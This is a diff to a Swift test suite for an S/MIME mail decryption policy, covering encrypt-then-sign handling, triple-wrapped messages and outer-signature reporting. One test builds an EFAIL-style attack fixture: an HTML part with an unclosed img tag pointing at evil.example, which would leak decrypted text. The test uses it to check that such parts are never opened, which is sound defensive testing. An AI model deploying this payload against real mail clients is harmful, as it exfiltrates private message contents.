@@ -157,6 +157,95 @@ struct DecryptionPolicyTests {
         #expect(detail(tampered, "decrypt_cause") == "integrity")
     }
 
+    /// A message from bob to alice whose root is `contentType` over `body` (a signed layer).
+    func signedLayerMessage(contentType: String, body: [UInt8], cte: String? = nil) -> MessageContext {
+        var fields = [HeaderField(name: "From", value: " bob@example.com"), HeaderField(name: "To", value: " alice@example.com"),
+                      HeaderField(name: "Subject", value: " plan"), HeaderField(name: "MIME-Version", value: " 1.0"),
+                      HeaderField(name: "Content-Type", value: " " + contentType)]
+        if let cte { fields.append(HeaderField(name: "Content-Transfer-Encoding", value: " " + cte)) }
+        return MessageContext(queueID: "Q2", connection: ConnectionInfo(clientAddress: "192.0.2.7"), envelopeSender: "<bob@example.com>",
+                              recipients: ["<alice@example.com>"], fields: fields, body: .memory(body))
+    }
+
+    /// The envelope entity (its own header and body) of `content` encrypted to `to`.
+    func envelopeEntity(_ content: [UInt8], to: SigningIdentity) throws -> [UInt8] {
+        let der = try CMSEncryptor.encrypt(content: content, recipients: [try Self.certificate(to)], cipher: .aes256CBC)
+        let wrapped = SMIMEWriter.enveloped(der: der, authenticated: false)
+        return Array(("Content-Type: " + wrapped.contentType + "\r\nContent-Transfer-Encoding: " + wrapped.contentTransferEncoding
+                      + "\r\n\r\n").utf8) + wrapped.body
+    }
+
+    @Test func encryptThenSignIsOpenedAndTheOuterSignatureReportedApart() throws {
+        let alice = try Self.identity("alice"), bob = try Self.identity("bob")
+        let envelope = try envelopeEntity(Self.inner, to: alice)
+        let signature = try CMSSigner.sign(content: envelope, identity: bob, digest: .sha256, detached: true)
+        let signed = try SMIMEWriter.multipartSigned(entity: envelope, signature: signature, digest: .sha256)
+        let message = signedLayerMessage(contentType: signed.contentType, body: signed.body)
+        let outcome = try policy().evaluate(message, now: Date())
+        #expect(detail(outcome, "decryption") == "decrypted")
+        #expect(detail(outcome, "outer_signature") == "pass")
+        let out = try MessageEditor.apply(outcome.edits, fields: message.fields, body: message.body)
+        #expect(out.body == Array("The secret plan.\r\n".utf8))
+        #expect(out.fields.first(named: "Content-Type")?.value == " text/plain; charset=us-ascii")
+        let ar = try #require(out.fields.first(named: "Authentication-Results")?.value)
+        // What is delivered is not signed; the signature over the ciphertext is a second result.
+        let results = ar.replacingOccurrences(of: "\n\t", with: " ").split(separator: ";").map { $0.trimmingCharacters(in: .whitespaces) }
+        #expect(results.count == 3, "\(ar)")
+        #expect(results.dropFirst().first?.hasPrefix("smime=none") == true, "\(ar)")
+        #expect(results.last?.hasPrefix("smime=pass (signature over the encrypted message, removed when decrypted)") == true, "\(ar)")
+        #expect(outcome.decision == .verified(result: .none, reason: "the message is not signed"))
+
+        // The signed layer altered in transit: decrypted all the same, the outer result says fail.
+        var tampered = signed.body
+        let at = try #require(tampered.firstRange(of: Array("Content-Transfer-Encoding: base64\r\n\r\n".utf8))).upperBound
+        tampered.insert(contentsOf: Array("\r\n".utf8), at: at + 8)
+        let altered = try policy().evaluate(signedLayerMessage(contentType: signed.contentType, body: tampered), now: Date())
+        #expect(detail(altered, "decryption") == "decrypted")
+        #expect(detail(altered, "outer_signature") == "fail")
+    }
+
+    @Test func tripleWrapIsOpenedToTheInnerSignature() throws {
+        let alice = try Self.identity("alice"), bob = try Self.identity("bob")
+        let innerSigned = SMIMEWriter.opaque(signedData: try CMSSigner.sign(content: Self.inner, identity: bob, digest: .sha256, detached: false))
+        let innerEntity = Array(("Content-Type: " + innerSigned.contentType + "\r\nContent-Transfer-Encoding: "
+                                 + innerSigned.contentTransferEncoding + "\r\n\r\n").utf8) + innerSigned.body
+        let envelope = try envelopeEntity(innerEntity, to: alice)
+        let outer = SMIMEWriter.opaque(signedData: try CMSSigner.sign(content: envelope, identity: bob, digest: .sha256, detached: false))
+        let message = signedLayerMessage(contentType: outer.contentType, body: outer.body, cte: outer.contentTransferEncoding)
+        let outcome = try policy().evaluate(message, now: Date())
+        #expect(detail(outcome, "decryption") == "decrypted")
+        #expect(detail(outcome, "outer_signature") == "pass")
+        #expect(outcome.decision == .verified(result: .pass, reason: nil))
+        let out = try MessageEditor.apply(outcome.edits, fields: message.fields, body: message.body)
+        #expect(out.body == innerSigned.body)
+        #expect(out.fields.first(named: "Content-Type")?.value.contains("signed-data") == true)
+        let ar = try #require(out.fields.first(named: "Authentication-Results")?.value)
+        let flat = ar.replacingOccurrences(of: "\n\t", with: " ")
+        #expect(flat.contains("; smime=pass body.smime-identifier=bob@example.com"), "\(ar)")
+        #expect(flat.contains("; smime=pass (signature over the encrypted message, removed when decrypted)"), "\(ar)")
+
+        // Kept: the message stays as it came, its outer signature verified as today.
+        var kept = message
+        kept.recipients = ["keeper@example.com"]
+        let keptOutcome = try policy().evaluate(kept, now: Date())
+        #expect(detail(keptOutcome, "decryption") == "kept")
+        let keptOut = try MessageEditor.apply(keptOutcome.edits, fields: kept.fields, body: kept.body)
+        #expect(keptOut.body == outer.body)
+    }
+
+    @Test func anEncryptedPartBesideOthersIsNeverOpened() throws {
+        // EFAIL: the attacker's text around an encrypted part the victim's key would open.
+        let alice = try Self.identity("alice")
+        let envelope = try envelopeEntity(Self.inner, to: alice)
+        let body = Array("--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--b\r\n".utf8) + envelope
+            + Array("\r\n--b--\r\n".utf8)
+        let message = signedLayerMessage(contentType: "multipart/mixed; boundary=b", body: body)
+        let outcome = try policy().evaluate(message, now: Date())
+        #expect(detail(outcome, "decryption") == nil)
+        let out = try MessageEditor.apply(outcome.edits, fields: message.fields, body: message.body)
+        #expect(out.body == body)
+    }
+
     @Test func unencryptedMailOnlyLosesForgedFields() throws {
         var message = inboundMessage(extraFields: [HeaderField(name: "X-SMIME-Decrypted", value: " yes")])
         message.recipients = ["alice@example.com"]
